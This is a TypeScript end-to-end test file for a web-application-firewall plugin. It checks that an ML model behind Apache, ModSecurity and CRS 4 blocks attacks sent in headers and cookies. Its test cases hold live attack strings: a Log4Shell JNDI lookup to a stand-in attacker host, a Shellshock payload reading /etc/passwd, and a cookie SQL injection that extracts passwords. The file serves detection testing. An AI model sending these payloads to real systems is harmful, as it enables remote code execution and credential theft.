import path from 'node:path';
import { ApacheInstance } from './support/apache';
import { cannotRun } from './support/cannot-run';
import { APACHE_REQUIRED, crs4Flavour, detectEnvironment } from './support/environment';
import { runStage, type FtwTarget } from './support/ftw-runner';
import { startCliServer, startEndpoint, probeModelsDir, type CliServer, type Endpoint } from './support/ml-endpoints';
import { CONTROL_HEADERS, type WafInstance } from './support/waf';

/**
 * Issue 11: attacks that arrive in headers or cookies are caught in mode 2, end to end: Apache 2.4 +
 * ModSecurity 2.9 + CRS 4 + our plugin (contract v2: headers and cookies sent) + the real CLI server
 * serving the bundled payload model (saved_models/payload-v1). The model alone decides (mode 2): the
 * log line must say ml_status=anomaly, verdict=block, and the answer must be 403; the same request
 * without the attack passes.
 */
const env = detectEnvironment();
const crs4 = crs4Flavour();
const crs4Skip = env.flavours.find((f) => f.flavour.name === crs4.name)?.skip;
const PAYLOAD_DIR = path.resolve(__dirname, '..', '..', 'saved_models', 'payload-v1');
const skip = env.apacheSkip ?? env.serverSkip ?? probeModelsDir(PAYLOAD_DIR);

const BROWSER = {
  Host: 'shop.example.com',
  'User-Agent': 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36',
  Accept: 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8',
  'Accept-Language': 'en-GB,en;q=0.9',
  Referer: 'https://shop.example.com/',
};

const CASES: ReadonlyArray<readonly [string, Record<string, string>]> = [
  ['Log4Shell in User-Agent', { 'User-Agent': '${jndi:ldap://attacker.example.net:1389/Exploit}' }],
  ['Shellshock in Referer', { Referer: '() { :; }; /bin/bash -c "cat /etc/passwd"' }],
  ['SQL injection in a cookie', { Cookie: "lang=en' UNION SELECT username, password FROM users-- -" }],
];

if (skip !== undefined) {
  cannotRun('the header-attacks run (Apache + CRS 4 + payload-v1)', skip, APACHE_REQUIRED());
} else if (crs4Skip !== undefined) {
  // CRS 4 comes from ../shared/crs, absent on a user's machine: a stated skip, never required.
  test.skip(`header attacks skipped: ${crs4Skip}`, () => undefined);
} else {
  describe('header and cookie attacks through Apache + CRS 4, mode 2, saved_models/payload-v1', () => {
    let server: CliServer;
    let proxy: Endpoint;
    let waf: WafInstance;
    let target: FtwTarget;

    beforeAll(async () => {
      server = await startCliServer(PAYLOAD_DIR);
      proxy = await startEndpoint({ kind: 'proxy', target: server.url });
      waf = new ApacheInstance({ env, flavour: crs4, endpoints: new Map([['payload', proxy.url]]), defaultEndpoint: 'payload' });
      await waf.start();
      target = { baseUrl: waf.baseUrl, logLinesFor: (id) => waf.logLinesFor(id), calls: () => proxy.calls, lastCallBody: () => proxy.bodies.at(-1) };
    }, 90_000);

    afterAll(async () => {
      await waf?.stop();
      await proxy?.close();
      await server?.stop();
    });

    async function verdict(headers: Record<string, string>): Promise<{ status: number; line: string; body: string }> {
      const { failures, status, log } = await runStage(
        target,
        { method: 'GET', uri: '/index.html?q=blue+running+shoes&page=2', headers: { ...BROWSER, ...headers, [CONTROL_HEADERS.mode]: '2' } },
        { x_ml_calls: 1 },
      );
      expect(failures).toEqual([]);
      const line = log.find((l) => l.includes('ML plugin: verdict=')) ?? '';
      return { status, line, body: proxy.bodies.at(-1)?.toString('utf8') ?? '' };
    }

    test('the same request without an attack passes', async () => {
      const { status, line } = await verdict({ Cookie: 'lang=en; currency=EUR' });
      expect(line).toMatch(/verdict=pass ml_status=pass/);
      expect(status).toBe(200);
    });

    test.each(CASES)('%s is blocked by the model', async (_name, headers) => {
      const { status, line, body } = await verdict(headers);
      // The client sent the header or cookie to the model (contract v2), and the model blocked.
      expect(body).toMatch(/(^|&)v=2(&|$)/);
      expect(line).toMatch(/verdict=block ml_status=anomaly/);
      expect(status).toBe(403);
    });
  });
}
